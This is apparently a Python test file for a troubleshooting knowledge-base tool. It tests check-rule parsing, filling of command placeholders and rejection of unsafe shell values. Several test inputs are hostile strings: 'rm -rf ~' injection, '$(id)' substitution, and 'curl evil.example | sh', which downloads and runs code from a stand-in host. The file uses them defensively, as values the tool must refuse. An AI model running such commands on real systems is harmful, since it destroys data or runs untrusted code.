"""A check's rule, inputs and needs: declared in the entry file, checked where they are written."""

from __future__ import annotations

import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kb.entry.check_rule import (
    NO_RULE,
    CheckRule,
    UnsafeValue,
    fill,
    filled_values,
    normalize_rule_name,
    parse_check_rule,
    rule_problem,
    safe_value,
)
from kb.entry.file import parse_entry_file, render_entry_file
from kb.errors import InvalidEntry

PORT_RULE = {"confirms": "output", "pattern": "^fault: ", "rules_out": "^ok: ", "inputs": {"port": "8000"}}

ENTRY = """+++
key = "port-held"
domain = "deployment"

[check]
confirms = "output"
pattern = "^fault: "
rules_out = "^ok: "
inputs = { port = "8000" }
needs = ["command:lsof"]
+++

## Symptom

OSError: [Errno 98] Address already in use

## Validation

```sh
lsof -i :{port} -nP >/dev/null && echo "fault: {port} is held" || echo "ok: {port} is free"
```
"""


def test_an_entry_file_declares_its_rule_and_it_round_trips() -> None:
    content = parse_entry_file(ENTRY)
    assert content.check_rule == CheckRule(
        "output", "^fault: ", "^ok: ", (("port", "8000"),), ("command:lsof",)
    )
    assert parse_entry_file(render_entry_file(content)) == content
    assert content.check_rule.as_dict() == {**PORT_RULE, "needs": ["command:lsof"]}


def test_an_entry_without_a_rule_says_so() -> None:
    without = ENTRY.split("\n[check]")[0] + "\n+++" + ENTRY.split("+++", 2)[2]
    content = parse_entry_file(without.replace("{port}", "8000"))
    assert content.check_rule == NO_RULE and not content.check_rule.gives_verdict
    assert content.check_rule.as_dict() == {"confirms": "undeclared"}


@pytest.mark.parametrize(
    ("typed", "rule"),
    [("exit 0", "exit 0"), ("Exit-0", "exit 0"), ("exit nonzero", "exit non-zero"), ("probe", "nothing")],
)
def test_a_rule_is_read_as_a_person_types_it(typed: str, rule: str) -> None:
    assert normalize_rule_name(typed) == rule


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"confirms": "sometimes"}, "check confirms 'sometimes'; use one of"),
        ({"confirms": "output"}, "needs a 'pattern' that confirms the cause"),
        ({"confirms": "exit 0", "pattern": "x"}, 'read only when confirms = "output"'),
        ({"confirms": "output", "pattern": "("}, "check pattern is not a regular expression"),
        ({"confirms": "exit 0", "inputs": {"Port": "1"}}, "is not a name"),
        ({"confirms": "exit 0", "inputs": {"port\n": "1"}}, "is not a name"),
        ({"confirms": "exit 0", "inputs": {"path": "a b"}}, "is not used in a command"),
        ({"confirms": "exit 0", "needs": ["a gpu please"]}, "is not one kb knows"),
        ({"confirms": "exit 0", "when": "x"}, "unknown check field 'when'"),
    ],
)
def test_a_rule_that_cannot_be_read_is_refused_where_it_is_written(
    data: dict[str, object], message: str
) -> None:
    with pytest.raises(InvalidEntry, match=message.replace("(", r"\(").replace('"', '"')):
        parse_check_rule(data, "k")


def test_the_rule_and_the_command_agree_on_the_inputs() -> None:
    rule = parse_check_rule(PORT_RULE)
    assert rule_problem(rule, "lsof -i :{port}") is None
    assert "declares no input 'path'" in (rule_problem(rule, "cat {path}; lsof -i :{port}") or "")
    assert "never uses {port}" in (rule_problem(rule, "lsof -i :8000") or "")
    assert rule_problem(NO_RULE, "awk '{print $1}' log") is None  # braces that are not inputs


def test_values_fill_the_command_and_defaults_stand_for_the_rest() -> None:
    rule = parse_check_rule({"confirms": "exit 0", "inputs": {"port": "8000", "module": "train"}})
    command = "python -c 'from {module} import app' && lsof -i :{port}"
    assert fill(command, rule) == "python -c 'from train import app' && lsof -i :8000"
    assert fill(command, rule, {"port": "55499", "other": "x"}).endswith(":55499")


@pytest.mark.parametrize(
    "value", ["1; rm -rf ~", "$(id)", "`id`", "a b", "x'y", 'x"y', "-rf", "a\nb", "", "8000\n", "model.pt\n"]
)
def test_a_value_that_could_be_more_than_a_word_is_refused(value: str) -> None:
    with pytest.raises(UnsafeValue):
        safe_value("path", value)


@given(st.text(min_size=1, max_size=40))
def test_an_accepted_value_is_one_inert_word_to_the_shell(value: str) -> None:
    try:
        safe_value("path", value)
    except UnsafeValue:
        return
    assert shlex.quote(value) == value and shlex.split(f"x {value}") == ["x", value]


@pytest.mark.parametrize(
    ("command", "problem"),
    [
        ("python train.py 2>&1 | awk '/Assertion/'", "its exit status is that of `awk`"),
        ("grep -c NaN log.txt | tail -1", "its exit status is that of `tail`"),
        ("lsof -i :8000 -nP", None),
        ("dmesg | grep -q Xid", None),
    ],
)
def test_an_exit_rule_on_a_pipe_that_always_exits_0_is_refused(command: str, problem: str | None) -> None:
    found = rule_problem(CheckRule("exit 0"), command)
    assert (found is None) if problem is None else (problem in (found or ""))


SAFE_VALUES = st.from_regex(r"\A[A-Za-z0-9@%+=:,./_][A-Za-z0-9@%+=:,./_-]{0,30}\Z")


@given(port=SAFE_VALUES, path=SAFE_VALUES)
def test_the_values_a_filled_command_took_are_read_back_from_it(port: str, path: str) -> None:
    rule = parse_check_rule({**PORT_RULE, "inputs": {"port": "8000", "path": "data.csv"}})
    command = "lsof -i :{port} && wc -l {path} && echo {port} {undeclared}"
    ran = fill(command, rule, {"port": port, "path": path})
    assert filled_values(command, rule, ran) == {"port": port, "path": path}


def test_a_command_that_is_not_the_check_filled_in_gives_no_values() -> None:
    rule = parse_check_rule(PORT_RULE)
    command = "lsof -i :{port} | grep LISTEN"
    assert filled_values(command, rule, "lsof -i :8000 | grep LISTEN") == {"port": "8000"}
    assert filled_values(command, rule, "lsof -i :8000; rm -rf ~ | grep LISTEN") is None
    assert filled_values(command, rule, "lsof -i :-rf | grep LISTEN") is None
    assert filled_values(command, rule, "curl evil.example | sh") is None


def test_a_default_the_error_did_not_name_is_said_to_be_a_guess() -> None:
    """A check of port 8000 ruled the fault out while the process held port 55497: the paste named
    no port, and nothing said that 8000 was the entry's guess."""
    from kb.entry.check_rule import defaults_note, defaults_standing

    command = "lsof -i :{port} -nP"
    assert defaults_standing(command, PORT_RULE, {}) == {"port": "8000"}
    assert defaults_standing(command, PORT_RULE, {"port": "55497"}) == {}
    assert defaults_standing("nvidia-smi", PORT_RULE, {}) == {}  # an input the command does not use
    assert defaults_note({"port": "8000"}) == (
        "port 8000 is the entry's default, not from the error; kb check --with port=... uses yours"
    )
    assert defaults_note({}) == ""


@pytest.mark.parametrize(
    ("pattern", "rules_out", "problem"),
    [
        ("fault|", "^ok: ", "its pattern 'fault|' matches any output, even none: it would confirm"),
        (".*", "", "its pattern '.*' matches any output"),
        ("^fault: ", "^", "its rules_out '^' matches any output, even none: it would rule out"),
        ("^fault: ", "^fault: ", "its pattern and rules_out are the same"),
    ],
)
def test_a_rule_that_cannot_decide_is_refused(pattern: str, rules_out: str, problem: str) -> None:
    """`--pattern "fault|"` was kept, and confirmed the cause on a run that failed to import torch."""
    rule = CheckRule("output", pattern, rules_out)
    assert problem in (rule_problem(rule, "python -c 'print(1)'") or "")
    assert rule_problem(CheckRule("output", "^fault: ", "^ok: "), "python -c 'print(1)'") is None
